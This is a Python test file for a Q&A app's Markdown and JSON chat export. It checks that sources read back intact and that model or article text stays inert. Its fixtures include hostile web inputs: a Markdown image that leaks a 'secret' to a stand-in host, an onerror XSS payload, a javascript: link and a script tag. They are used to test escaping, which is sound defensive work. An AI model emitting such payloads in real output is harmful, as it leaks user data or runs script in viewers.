"""Answers to take away (``qa.faces.export``): Markdown that reads back to the same answer and
sources, and carries no markup of the model's or an article's; JSON that loads back whole."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from qa.faces.export import answer_markdown, chat_json, chat_markdown, escape, write_chat

HOSTILE = ("Allies gave 150 billion euros [1]. ![x](http://leak.example/q?secret=1) "
           "<img src=x onerror=alert(1)> [click](javascript:alert(1)) **bold** www.leak.example\n"
           "- not a list\n# not a heading\n1. not numbered\n> not quoted")


def citation(number: int, **over: Any) -> dict[str, Any]:
    base = {"number": number, "title": "All NATO Allies agree Ukraine's future is in NATO",
            "source": "NATO News", "published_at": "2023-04-20T10:00:00", "also_in": [],
            "url": "https://www.nato.int/cps/en/natohq/news_214025.htm", "path": "nato.txt",
            "header": "", "quote": "Allies have delivered more than 150 billion euros in "
                                   "support, including 65 billion euros in military aid."}
    return {**base, **over}


def answer(**over: Any) -> dict[str, Any]:
    base = {"text": "Allies have delivered more than 150 billion euros in support [1][2].",
            "refused": False, "unsupported": [], "verdict": "lexical", "support_score": None,
            "uncovered": [], "files_gone": [],
            "citations": [citation(1), citation(
                2, title="Ramstein [meeting] <b>notes</b>", source="Wire (Agency)",
                published_at="2023-04-21", url="", path="notes/ramstein #2.txt",
                quote="The Ukraine Defense Contact Group met at Ramstein ![img](http://x.example/a).")]}
    return {**base, **over}


class Rendered(HTMLParser):
    """The HTML a Markdown viewer would make, as tags with attributes and visible text."""

    def __init__(self, markdown: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(MarkdownIt("commonmark", {"html": True, "linkify": False}).render(markdown))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def items(markdown: str) -> list[str]:
    """The text of each top-level ordered-list item, via markdown-it's own tokens."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    out, depth, current = [], 0, []
    for t in tokens:
        if t.type == "list_item_open":
            depth += 1
            current = []
        elif t.type == "list_item_close":
            depth -= 1
            out.append(" ".join(current))
        elif depth and t.type == "inline":
            current.append("".join(c.content for c in t.children or () if c.type in
                                   ("text", "code_inline")) or t.content)
    return out


def test_an_answer_reads_back_with_every_source_title_outlet_date_url_and_quote() -> None:
    data = answer()
    md = answer_markdown({"question": "How much support?", "answer": data}, level=1)
    listed = items(md)
    assert len(listed) == 2
    for c, shown in zip(data["citations"], listed, strict=True):
        for field in (c["title"], c["source"], c["published_at"][:10], c["url"] or c["path"],
                      c["quote"]):
            assert field in shown, (field, shown)
    page = Rendered(md)
    links = [a["href"] for tag, a in page.tags if tag == "a"]
    assert links == ["https://www.nato.int/cps/en/natohq/news_214025.htm"]  # the source only
    assert not any(tag in ("img", "b", "h2") for tag, _ in page.tags)
    assert md.startswith("# How much support?\n")
    assert "Allies have delivered more than 150 billion euros in support [1][2]." in \
        "".join(page.text)


def test_model_and_article_text_form_no_markup_and_read_as_written() -> None:
    data = answer(text=HOSTILE, citations=[citation(1, quote=HOSTILE.replace("\n", " "))])
    md = chat_markdown([{"question": "Q <script>x</script>", "answer": data}])
    page = Rendered(md)
    assert {tag for tag, _ in page.tags} <= {"h1", "h2", "p", "br", "strong", "em", "ol", "li",
                                             "blockquote", "a"}
    assert [a["href"] for tag, a in page.tags if tag == "a"] == [citation(1)["url"]]
    shown = "".join(page.text)
    for line in HOSTILE.split("\n"):
        assert line in shown  # every line as written, markup characters and all
    assert "<script>x</script>" in shown


def test_escape_keeps_plain_text_plain() -> None:
    for text in ("Plain words, 150 billion euros.", "Q1 2023: revenue rose 5% (to $3.2bn)",
                 "Line one\nLine two"):
        page = Rendered(escape(text))
        assert "".join(page.text).replace("\n", "") == text.replace("\n", "")
        assert {tag for tag, _ in page.tags} <= {"p", "br"}


def test_refusals_errors_and_the_json_chat_load_back() -> None:
    when = datetime(2026, 12, 5, 21, 50, tzinfo=UTC)
    turns = [{"question": "Who won?", "answer": answer(refused=True, citations=[],
                                                      text="The articles do not say.")},
             {"question": "Why?", "error": "The model server is not running."},
             {"question": "How much?", "answer": answer()}]
    md = chat_markdown(turns, exported_at=when)
    assert md.startswith("# Article Q&A: 3 questions, exported 2026-12-05 21:50 UTC")
    assert "**No answer.** The articles do not say." in md
    assert "**Error:** The model server is not running." in md
    assert [h for h in md.splitlines() if h.startswith("## ")] == [
        "## 1. Who won?", "## 2. Why?", "## 3. How much?"]
    loaded = json.loads(chat_json(turns, exported_at=when))
    assert loaded == {"exported_at": "2026-12-05T21:50:00+00:00", "turns": turns}


def test_write_chat_gives_each_save_its_own_file(tmp_path: Path) -> None:
    turns = [{"question": "How much?", "answer": answer()}]
    paths = [write_chat(turns, kind, tmp_path) for kind in ("markdown", "markdown", "json")]
    assert len(set(paths)) == 3
    assert [p.suffix for p in paths] == [".md", ".md", ".json"]
    assert json.loads(paths[2].read_text(encoding="utf-8"))["turns"] == turns
    assert "Sources:" in paths[0].read_text(encoding="utf-8")
    with pytest.raises(ValueError, match="unknown export format 'pdf'"):
        write_chat(turns, "pdf", tmp_path)
